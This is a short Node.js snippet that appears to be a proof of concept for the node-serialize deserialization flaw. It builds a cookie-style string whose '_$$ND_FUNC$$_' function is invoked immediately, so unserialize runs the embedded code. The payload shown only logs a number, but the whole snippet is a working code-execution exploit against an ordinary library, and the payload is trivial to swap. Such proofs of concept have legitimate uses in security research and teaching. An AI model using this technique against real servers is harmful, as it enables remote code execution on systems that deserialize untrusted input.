const codec = require("node-serialize");
const cookie = '{"run":"_$$ND_FUNC$$_function (){ console.log(1) }()"}';
const { unserialize: open } = codec;
console.log(open(cookie));
